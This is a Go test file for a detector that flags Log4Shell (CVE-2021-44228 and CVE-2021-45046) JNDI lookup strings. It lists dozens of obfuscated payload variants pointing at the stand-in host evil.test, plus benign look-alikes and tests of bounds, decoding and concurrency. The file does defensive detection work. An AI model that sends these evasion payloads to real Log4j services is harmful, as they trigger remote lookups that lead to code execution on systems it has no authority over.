package lookup

import (
	"fmt"
	"strings"
	"testing"
)

// Obfuscations of CVE-2021-44228 / CVE-2021-45046 payloads seen in the wild
// (honeypot and vendor write-ups, December 2021) and constructions that follow
// from StrSubstitutor's rules. Every one makes Log4j 2.14.1 perform a JNDI lookup.
var exploits = []struct{ name, in string }{
	{"plain ldap", "${jndi:ldap://evil.test/a}"},
	{"upper-case prefix", "${JNDI:LDAP://evil.test/a}"},
	{"mixed-case prefix", "${jNdI:ldap://evil.test/a}"},
	{"dns scheme", "${jndi:dns://evil.test/a}"},
	{"CVE-2021-45046 host bypass", "${jndi:ldap://127.0.0.1#evil.test:1389/a}"},
	{"lower lookup", "${${lower:j}ndi:ldap://evil.test/a}"},
	{"upper lookup", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.test/a}"},
	{"lower of whole prefix", "${${lower:jndi}:${lower:rmi}://evil.test/a}"},
	{"nested lower", "${${lower:${lower:jndi}}:ldap://evil.test/a}"},
	{"lower of upper", "${${lower:${upper:j}}${lower:n}${lower:d}i:ldap://evil.test/a}"},
	{"empty default letters", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test/a}"},
	{"many colons before default", "${${::::::-j}ndi:rmi://evil.test/a}"},
	{"env defaults", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.test/a}"},
	{"sys default", "${${sys:os.nonexistent:-j}ndi:ldap://evil.test/a}"},
	{"k8s default inside name", "${j${k8s:k5:-ND}i:ldap://evil.test/a}"},
	{"main and spring defaults", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.test/a}"},
	{"arbitrary unknown lookups", "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.test/a}"},
	{"date quoted literals", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.test/a}"},
	{"empty lower in prefix", "${${lower:}jndi:ldap://evil.test/a}"},
	{"dotless i upper-cased", "${jnd${upper:\u0131}:ldap://evil.test/a}"},
	{"lookup in default is evaluated", "${x:-${jndi:ldap://evil.test/a}}"},
	{"escaped lookup re-substituted as a value", "${lower:$${jndi:ldap://evil.test/a}}"},
	{"lookup nested in an escaped one", "$${${jndi:ldap://evil.test/a}}"},
	{"escaped default separator", "${jndi:\\-ldap://evil.test/a}"},
	{"unclosed, closed by the log line", "{\"ua\":\"${jndi:ldap://evil.test/a"},
	{"embedded in a user agent", "Mozilla/5.0 ${jndi:ldap://evil.test/a} Gecko"},
	{"percent-encoded", "%24%7Bjndi:ldap://evil.test/a%7D"},
	{"percent-encoded letters", "%24%7B%6A%6E%64%69%3Aldap://evil.test/a%7D"},
	{"double percent-encoded", "%2524%257Bjndi%253Aldap://evil.test/a%257D"},
	{"triple percent-encoded", "%252524%25257Bjndi:ldap://evil.test/a%25257D"},
	{"IIS %u encoding", "%u0024%u007Bjndi:ldap://evil.test/a%u007D"},
	{"JSON unicode escape", `{"name":"\u0024\u007bjndi:ldap://evil.test/a\u007d"}`},
	{"HTML numeric references", "&#36;&#123;jndi:ldap://evil.test/a&#x7d;"},
	{"HTML named references", "&dollar;&lbrace;jndi:ldap://evil.test/a&rbrace;"},
}

// Text that contains lookup-like syntax or the word jndi but performs no JNDI
// lookup in Log4j 2.14.1.
var benign = []struct{ name, in string }{
	{"bash default", "echo ${HOME:-/root} ${VAR:-x}"},
	{"bash nested defaults", "${JAVA_HOME:-${JDK_DIR:-/usr/lib/jvm/default}}/bin/java -jar app.jar"},
	{"JS template", "Join ${user.name} and Diane in ${room}: ${jobs.pending} jobs, ${disk.free} idle"},
	{"prices", "Only $5 {incl. tax}, was US$ {10}; jingle and dine in"},
	{"JSON with a property named jndiName", `{"template":"${jndiName}","cost":"$5","kind":"jndi"}`},
	{"no colon", "${jndi}"},
	{"jndi is only the name before a default", "${jndi:-ldap://evil.test/a}"},
	{"Spring placeholder mentioning jndi", "${spring.datasource.jndi-name:java:comp/env/jdbc/ds}"},
	{"escaped lookup", "$${jndi:ldap://evil.test/a}"},
	{"space before prefix", "${ jndi:ldap://evil.test/a}"},
	{"no lookup syntax", "jndi:ldap://evil.test/a is a JNDI URL"},
	{"date literals outside a lookup", "${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.test/a"},
	{"assembled dollar is not rescanned", "${::-$}{jndi:ldap://evil.test/a}"},
	{"dotless i is not i", "${jnd\u0131:ldap://evil.test/a}"},
	{"dotted capital I lower-cases to two characters", "${${lower:JND\u0130}:ldap://evil.test/a}"},
	{"base64 lookup does not exist in 2.14.1", "${${base64:am5kaQ==}:ldap://evil.test/a}"},
	{"URL-encoded template", "q=%24%7Bname%7D&lang=nd&index=1"},
	{"Windows path", `C:\Program Files\${app}\jndi\lib`},
	{"unclosed template", "price ${ amount and ${ index"},
	{"empty", ""},
}

func TestJNDIExploits(t *testing.T) {
	for _, tc := range exploits {
		if !JNDI(tc.in) {
			t.Errorf("%s: JNDI(%q) = false, want true", tc.name, tc.in)
		}
	}
}

func TestJNDIBenign(t *testing.T) {
	for _, tc := range benign {
		if JNDI(tc.in) {
			t.Errorf("%s: JNDI(%q) = true, want false", tc.name, tc.in)
		}
	}
}

// Bounds: inputs past them are judged by the necessary condition (candidate),
// so nesting, padding or exponential work neither hides a payload nor makes
// benign text match.
func TestJNDIBounds(t *testing.T) {
	deep := func(core string, n int) string {
		return strings.Repeat("${lower:", n) + core + strings.Repeat("}", n)
	}
	// exponential: X(k) = ${z:-${u:X(k-1)}}; the unresolved ${u:...} is
	// substituted once inside the name and again as the default value.
	expo := func(core string, k int) string {
		x := core
		for i := 0; i < k; i++ {
			x = "${z:-${u:" + x + "}}"
		}
		return x
	}
	tests := []struct {
		name string
		in   string
		want bool
	}{
		{"nesting past MaxDepth with jndi letters", "${" + deep("j", MaxDepth+8) + "ndi:ldap://evil.test/a}", true},
		{"nesting past MaxDepth without them", deep("x", MaxDepth+8), false},
		{"nesting within MaxDepth", "${" + deep("j", MaxDepth/2-2) + "ndi:ldap://evil.test/a}", true},
		{"exponential work with jndi letters", expo("${::-j}ndi", 40), true},
		{"exponential work without them", expo("abc", 40), false},
		{"padding past MaxLookupLength", "${jndi:ldap://evil.test/" + strings.Repeat("a", MaxLookupLength) + "}", true},
		{"padded prefix past MaxLookupLength", "${${::-j}ndi" + strings.Repeat("${::-}", MaxLookupLength/6) + ":x}", true},
		{"long lookup without jndi letters", "${x:-" + strings.Repeat("a", MaxLookupLength) + "}", false},
		{"long benign text", strings.Repeat("just another day in ${city} ", MaxLookupLength/8), false},
		{"decoy exhausting work, then a payload", expo("abc", 40) + " ${jndi:ldap://evil.test/a}", true},
		{"decoy exhausting work, then benign text", expo("abc", 40) + " see you at ${place}", false},
	}
	for _, tc := range tests {
		if got := JNDI(tc.in); got != tc.want {
			t.Errorf("%s: JNDI = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// The evaluator stops within its budget on hostile input.
func TestEvaluatorWorkBounded(t *testing.T) {
	x := "${::-j}ndi"
	for i := 0; i < 60; i++ {
		x = "${z:-${u:" + x + "}}"
	}
	var e evaluator
	if !e.evaluate(x) || !e.over {
		t.Fatalf("evaluate = found %v over %v, want the work bound to trip", e.found, e.over)
	}
	if limit := workBase + workPerByte*len(x); -e.budget > 2*len(x)+16 {
		t.Errorf("spent %d units, budget %d", limit-e.budget, limit)
	}
}

func TestSplitDefault(t *testing.T) {
	tests := []struct{ in, name, def string }{
		{"::-j", ":", "j"},
		{"env:BARFOO:-:", "env:BARFOO", ":"},
		{"k8s:k5:-ND", "k8s:k5", "ND"},
		{`a:\-b`, "a:-b", ""},
		{`a:\-b:-c`, "a:b", "c"},
		{"jndi:ldap://x", "jndi:ldap://x", ""},
	}
	for _, tc := range tests {
		name, def, _ := splitDefault(tc.in)
		if name != tc.name || def != tc.def {
			t.Errorf("splitDefault(%q) = %q, %q; want %q, %q", tc.in, name, def, tc.name, tc.def)
		}
	}
}

func TestSubstitution(t *testing.T) {
	tests := []struct{ in, want string }{
		{"${lower:ABC}", "abc"},
		{"${upper:abc}", "ABC"},
		{"${LoWeR:X}", "x"},
		{"${unknown:key}", "${unknown:key}"},
		{"${a:-${b}}", "${b}"},
		{"$${lower:A}", "${lower:A}"},
		{"$$${lower:A}", "$${lower:A}"},
		{"${lower:$}${lower:A}", "${lower:A}"},
		{"${::-}x", "x"},
		{"${date:'j'}", "j"},
		{"a ${ b", "a ${ b"},
		{"${lower:a}${", "a${"},
	}
	for _, tc := range tests {
		e := evaluator{budget: 1 << 20}
		if got := e.subst(tc.in, false); got != tc.want {
			t.Errorf("subst(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestJavaCase(t *testing.T) {
	tests := []struct{ got, want string }{
		{javaLower("JNDI"), "jndi"},
		{javaLower("JND\u0130"), "jndi\u0307"},
		{javaUpper("jnd\u0131"), "JNDI"},
		{javaUpper("\u017f"), "S"},
		{javaLower("\xff\xfeA"), "\xff\xfea"},
		{javaLower("same"), "same"},
	}
	for i, tc := range tests {
		if tc.got != tc.want {
			t.Errorf("case %d: got %q, want %q", i, tc.got, tc.want)
		}
	}
}

func TestJavaDate(t *testing.T) {
	tests := []struct{ in, want string }{
		{"'j'", "j"},
		{"''", "'"},
		{"'o''clock'", "o'clock"},
		{"yyyy-MM-dd HH:mm", "0-0-0 0:0"},
		{"j", dateField},
		{"'unterminated", dateField},
		{"", ""},
	}
	for _, tc := range tests {
		if got := javaDate(tc.in); got != tc.want {
			t.Errorf("javaDate(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestDecoders(t *testing.T) {
	pct := func(s string) string { b, _ := percentDecode(nil, []byte(s)); return string(b) }
	unesc := func(s string) string { b, _ := unescape(nil, []byte(s)); return string(b) }
	tests := []struct{ got, want string }{
		{pct("%24%7b%zz%u0024+%"), "${%zz$+%"},
		{pct("%%32%65"), "%2e"},
		{unesc(`\u0024\x7b\/\\ \ud83d\ude00 \ud83d`), "${/\\ \U0001F600 \uFFFD"},
		{unesc("&#36;&#x7B;&#123&dollar;&amp;&unknown;&#;"), "${{$&&unknown;&#;"},
		{unesc(`end\`), `end\`},
	}
	for i, tc := range tests {
		if tc.got != tc.want {
			t.Errorf("case %d: got %q, want %q", i, tc.got, tc.want)
		}
	}
}

func TestJNDINoAllocations(t *testing.T) {
	if raceEnabled {
		t.Skip("sync.Pool drops items under the race detector")
	}
	texts := []string{
		strings.Repeat("plain text without any lookup syntax, ", 20),
		"q=caf%C3%A9&page=2&sort=name%2Cdate",
		"total: $5 {discount}",
	}
	for _, s := range texts {
		JNDI(s) // warm the pool
		if n := testing.AllocsPerRun(100, func() { JNDI(s) }); n != 0 {
			t.Errorf("JNDI(%.30q...) allocates %v times, want 0", s, n)
		}
	}
}

func TestCandidateIsNecessary(t *testing.T) {
	for _, tc := range exploits {
		if !candidate([]byte(tc.in)) && !strings.ContainsAny(tc.in, "%&\\") {
			t.Errorf("%s: candidate false for an exploit", tc.name)
		}
	}
}

// JNDI is called from every engine shard at once.
func TestJNDIConcurrent(t *testing.T) {
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for i := 0; i < 50; i++ {
				for _, tc := range exploits {
					if !JNDI(tc.in) {
						done <- fmt.Errorf("%s: false under concurrency", tc.name)
						return
					}
				}
				for _, tc := range benign {
					if JNDI(tc.in) {
						done <- fmt.Errorf("%s: true under concurrency", tc.name)
						return
					}
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}
